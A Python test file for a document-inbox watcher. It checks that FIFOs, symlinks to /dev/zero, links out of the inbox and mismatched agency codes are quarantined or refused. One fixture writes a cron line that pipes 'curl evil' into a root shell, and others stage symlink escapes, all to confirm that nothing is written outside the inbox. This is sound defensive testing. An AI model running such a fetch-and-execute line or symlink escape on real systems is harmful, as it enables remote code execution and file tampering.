"""The inbox against hostile and careless input (issue 10): FIFOs and links never followed nor waited on,
`retry` never writing outside the inbox, no agency writing into another's dossier, a dossier folder at the
inbox root, a name too long for its error.json, and files held by another worker explained. Real `sohoa`
processes on real files; every run has a time bound so that a hang fails instead of blocking."""

import json
import os
import signal
import socket
import stat
import subprocess
from datetime import date

import pytest
from _watch_helpers import (  # noqa: F401  (watchers is a fixture)
    AGENCY,
    archived_documents,
    claimed_files,
    dossier_code,
    drop,
    files_under,
    inbox_files,
    sha256,
    tiny_png,
    wait_until,
    watch_env,
    watchers,
)
from conftest import sohoa_command

OTHER = "000.00.00.X99"
TODAY = date.today().isoformat()


def _sohoa(*args: str, timeout: float = 90) -> subprocess.CompletedProcess:
    """`sohoa ARGS` with SOHOA_STABLE_SECONDS=1; fails the test (killing it and what it started) if it runs longer
    than `timeout`."""
    process = subprocess.Popen(
        [*sohoa_command(), *args],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env={**os.environ, **watch_env(SOHOA_STABLE_SECONDS="1")},
        start_new_session=True,
    )
    try:
        stdout, stderr = process.communicate(timeout=timeout)
    except subprocess.TimeoutExpired:
        os.killpg(process.pid, signal.SIGKILL)
        process.communicate()
        pytest.fail(f"sohoa {' '.join(args[:1])} still running after {timeout} s: it hangs")
    assert "Traceback" not in stderr, stderr
    return subprocess.CompletedProcess(process.args, process.returncode, stdout, stderr)


def _reason(quarantined) -> dict:
    return json.loads(quarantined.with_name(quarantined.name + ".error.json").read_text(encoding="utf-8"))


def _entries(folder) -> list:
    """Every entry under `folder` that is not a folder, links and FIFOs included (never followed)."""
    found = []
    for parent, folders, names in os.walk(folder):
        found += [os.path.join(parent, name) for name in names]
        found += [os.path.join(parent, name) for name in folders if os.path.islink(os.path.join(parent, name))]
    return sorted(found)


# ------------------------------------------------------------------ finding 1: FIFO, /dev/zero


def test_a_fifo_and_a_link_to_dev_zero_are_quarantined_as_they_are_and_never_block(tmp_path, sohoa_home):
    inbox = sohoa_home / "inbox"
    inbox.mkdir(parents=True)
    os.mkfifo(inbox / "scan.pdf")
    os.symlink("/dev/zero", inbox / "zero.pdf")
    good_data = tiny_png("Đơn đề nghị số 1")
    drop(inbox / AGENCY / dossier_code(1) / "01.png", good_data)

    completed = _sohoa("watch", str(inbox), "--once", "--json", timeout=90)
    assert completed.returncode == 1, completed.stderr  # something was quarantined
    summary = json.loads(completed.stdout)
    assert (summary["quarantined"], summary["archived"]) == (2, 1)
    fifo, link = inbox / ".quarantine" / TODAY / "scan.pdf", inbox / ".quarantine" / TODAY / "zero.pdf"
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)  # moved as itself, never opened
    assert os.readlink(link) == "/dev/zero"
    for entry in (fifo, link):
        assert _reason(entry)["code"] == "not_a_regular_file"
    assert [document.sha256 for document in archived_documents(sohoa_home)] == [sha256(good_data)]
    assert _entries(inbox / ".processing") == [] and inbox_files(inbox) == []


def test_a_serving_watcher_given_a_fifo_goes_on_and_stops_at_once_on_sigterm(tmp_path, sohoa_home, watchers):
    inbox = sohoa_home / "inbox"
    watcher = watchers.start(inbox, SOHOA_STABLE_SECONDS="1")
    watcher.wait_log("Đang theo dõi")
    os.mkfifo(inbox / "scan.pdf")
    os.symlink("/dev/zero", inbox / "zero.pdf")
    wait_until(lambda: len(_entries(inbox / ".quarantine")) == 4, 60, "the FIFO and the link in quarantine")
    # The watcher is free: a file dropped after them is archived.
    drop(inbox / AGENCY / dossier_code(3) / "01.png", tiny_png("Hồ sơ ba"))
    watcher.wait_log(f"Xong hồ sơ {dossier_code(3)}")
    assert watcher.stop(timeout=15) == 0
    assert "Đã dừng theo dõi hộp thư đến" in watcher.log()
    assert claimed_files(inbox) == []


# ------------------------------------------------------------------ finding 2: retry through a link


@pytest.mark.parametrize("came_from", ["lnk/evil-cron", f"{AGENCY}/lnk/evil-cron"])
def test_retry_never_writes_through_a_linked_folder(tmp_path, sohoa_home, came_from):
    inbox = sohoa_home / "inbox"
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    link_at = inbox / came_from.rsplit("/", 1)[0]
    link_at.parent.mkdir(parents=True, exist_ok=True)
    os.symlink(elsewhere, link_at)
    quarantined = drop(inbox / ".quarantine" / TODAY / "evil.pdf", b"* * * * * root curl evil | sh\n")
    quarantined.with_name("evil.pdf.error.json").write_text(json.dumps({"from": came_from, "code": "corrupt_file"}))

    completed = _sohoa("retry", str(quarantined), "--json", timeout=60)
    assert completed.returncode == 1
    [error] = json.loads(completed.stdout)["errors"]
    assert error["error"].startswith("unsafe_path:")
    assert list(elsewhere.iterdir()) == []  # nothing written outside the inbox
    assert quarantined.read_bytes() == b"* * * * * root curl evil | sh\n"  # left where it was, with its reason
    assert quarantined.with_name("evil.pdf.error.json").is_file()


# ------------------------------------------------------------------ finding 3: links to files outside


def test_links_to_files_outside_the_inbox_and_into_the_store_are_never_archived(tmp_path, sohoa_home):
    inbox = sohoa_home / "inbox"
    # Another agency's document, archived first: its original now lies in the store.
    theirs = drop(inbox / OTHER / f"{OTHER}-240101-0001" / "01.png", tiny_png("Quyết định của cơ quan khác"))
    their_data = theirs.read_bytes()
    assert _sohoa("watch", str(inbox), "--once").returncode == 0
    [their_original] = (sohoa_home / "store").rglob("original.png")

    secret_folder = tmp_path / "server"
    secret = drop(secret_folder / "secret.png", tiny_png("Tài liệu mật trên máy chủ"))
    folder = inbox / AGENCY / dossier_code(4)
    mine = drop(folder / "01.png", tiny_png("Tờ khai số 4"))
    my_data = mine.read_bytes()
    os.symlink(secret, folder / "02-ngoai.png")
    os.symlink(their_original, folder / "03-kho.png")
    os.symlink(secret_folder, inbox / AGENCY / dossier_code(5))  # a whole dossier folder that is a link

    completed = _sohoa("watch", str(inbox), "--once", "--json")
    assert completed.returncode == 1, completed.stderr
    assert json.loads(completed.stdout)["quarantined"] == 3
    documents = archived_documents(sohoa_home)
    assert sorted((document.dossier, document.sha256) for document in documents) == sorted(
        [(f"{OTHER}-240101-0001", sha256(their_data)), (dossier_code(4), sha256(my_data))]
    )
    assert sha256(secret.read_bytes()) not in {document.sha256 for document in documents}
    quarantine = inbox / ".quarantine" / TODAY / AGENCY
    for link in (
        quarantine / dossier_code(4) / "02-ngoai.png",
        quarantine / dossier_code(4) / "03-kho.png",
        quarantine / dossier_code(5),
    ):
        assert os.path.islink(link) and _reason(link)["code"] == "not_a_regular_file"
    assert secret.is_file() and their_original.is_file()


# ------------------------------------------------------------------ finding 4: another agency's dossier code


def test_another_agencys_dossier_code_in_an_agency_folder_is_refused_and_its_dossier_untouched(tmp_path, sohoa_home):
    inbox = sohoa_home / "inbox"
    theirs = drop(inbox / OTHER / f"{OTHER}-240101-0001" / "01.png", tiny_png("Đơn của cơ quan X99"))
    their_data = theirs.read_bytes()
    assert _sohoa("watch", str(inbox), "--once").returncode == 0

    loose = drop(inbox / AGENCY / f"{OTHER}-240101-0001-giay.png", tiny_png("Giấy của H33"))
    in_folder = drop(inbox / AGENCY / f"{OTHER}-240101-0002" / "01.png", tiny_png("Tờ của H33"))
    completed = _sohoa("watch", str(inbox), "--once", "--json")
    assert completed.returncode == 1, completed.stderr
    assert json.loads(completed.stdout)["quarantined"] == 2
    from inbox.convention import AgencyMismatch

    for relative in (loose.relative_to(inbox), in_folder.relative_to(inbox)):
        about = _reason(inbox / ".quarantine" / TODAY / relative)
        assert (about["code"], about["vi"], about["en"]) == ("agency_mismatch", AgencyMismatch.vi, AgencyMismatch.en)
        assert about["agency"] == AGENCY
    [document] = archived_documents(sohoa_home)  # X99's dossier holds its own document only, as it was
    assert (document.dossier, document.agency, document.ordinal, document.sha256) == (
        f"{OTHER}-240101-0001",
        OTHER,
        1,
        sha256(their_data),
    )
    assert "agency_mismatch" in completed.stderr and inbox_files(inbox) == []


# ------------------------------------------------------------------ item 7: a dossier folder at the inbox root


def test_a_dossier_folder_at_the_inbox_root_is_that_dossier_of_the_agency_its_code_names(tmp_path, sohoa_home):
    inbox = sohoa_home / "inbox"
    pages = {"01.png": tiny_png("Trang một hồ sơ sáu"), "02.png": tiny_png("Trang hai hồ sơ sáu")}
    for name, data in pages.items():
        drop(inbox / dossier_code(6) / name, data)
    completed = _sohoa("watch", str(inbox), "--once", "--json")
    assert completed.returncode == 0, completed.stderr
    documents = sorted(archived_documents(sohoa_home), key=lambda document: document.ordinal)
    assert [(d.dossier, d.agency, d.ordinal, d.sha256) for d in documents] == [
        (dossier_code(6), AGENCY, 1, sha256(pages["01.png"])),
        (dossier_code(6), AGENCY, 2, sha256(pages["02.png"])),
    ]
    assert not (inbox / dossier_code(6)).exists()  # the emptied dossier folder is removed


# ------------------------------------------------------------------ item 7: a name too long for its error.json


def test_a_bad_file_with_a_253_byte_name_is_quarantined_with_its_reason_and_retry_works(tmp_path, sohoa_home):
    inbox = sohoa_home / "inbox"
    name = "đơn-" + "x" * (253 - len("đơn-".encode()) - len(".png")) + ".png"
    assert len(name.encode()) == 253
    relative = f"{AGENCY}/{dossier_code(7)}/{name}"
    drop(inbox / relative, b"\x89PNG\r\n\x1a\n but the scanner cut it short")

    completed = _sohoa("watch", str(inbox), "--once", "--json")
    assert completed.returncode == 1, completed.stderr
    summary = json.loads(completed.stdout)
    assert (summary["quarantined"], summary["released"]) == (1, 0)
    assert "không chuyển được tệp" not in completed.stderr  # it was moved on, with its reason
    [quarantined] = [path for path in files_under(inbox / ".quarantine") if not path.name.endswith(".error.json")]
    about = _reason(quarantined)  # its reason lies beside it
    assert about["code"] == "corrupt_file" and about["from"] == relative and about["name"] == name
    assert quarantined.suffix == ".png" and inbox_files(inbox) == [] and claimed_files(inbox) == []

    data = tiny_png("Đơn quét lại")
    quarantined.write_bytes(data)  # the clerk scans it again, then retries
    retried = _sohoa("retry", str(quarantined), "--json", timeout=60)
    assert retried.returncode == 0, retried.stderr
    assert (inbox / relative).read_bytes() == data and files_under(inbox / ".quarantine") == []
    again = _sohoa("watch", str(inbox), "--once", "--json")
    assert again.returncode == 0, again.stderr
    [document] = archived_documents(sohoa_home)
    assert (document.dossier, document.sha256) == (dossier_code(7), sha256(data))


# ------------------------------------------------------------------ item 7: files held by another worker


def _held_by(inbox, worker: str, host: str, pid: int, data: bytes):
    folder = inbox / ".processing" / worker
    drop(folder / ".heartbeat", json.dumps({"worker": worker, "host": host, "pid": pid}).encode())
    return drop(folder / AGENCY / dossier_code(8) / "01.png", data)


def test_files_held_by_a_worker_that_may_still_run_wait_and_the_log_says_why_and_until_when(tmp_path, sohoa_home):
    inbox = sohoa_home / "inbox"
    held = _held_by(inbox, "may-khac-4242", "may-khac", 4242, tiny_png("Hồ sơ tám"))
    completed = _sohoa("watch", str(inbox), "--once")
    assert completed.returncode == 0, completed.stderr
    assert "1 tệp đang do tiến trình may-khac-4242 giữ; sẽ thu hồi về hộp thư đến lúc" in completed.stderr
    assert "SOHOA_CLAIM_TIMEOUT_SECONDS=30" in completed.stderr
    assert held.is_file() and archived_documents(sohoa_home) == []


def test_files_of_a_dead_process_on_this_machine_are_taken_back_at_once(tmp_path, sohoa_home):
    inbox = sohoa_home / "inbox"
    ended = subprocess.Popen(["true"])
    ended.wait()  # a process id that no longer runs
    data = tiny_png("Hồ sơ tám")
    _held_by(inbox, f"{socket.gethostname()}-{ended.pid}", socket.gethostname(), ended.pid, data)
    completed = _sohoa("watch", str(inbox), "--once")
    assert completed.returncode == 0, completed.stderr
    [document] = archived_documents(sohoa_home)
    assert (document.dossier, document.sha256) == (dossier_code(8), sha256(data))
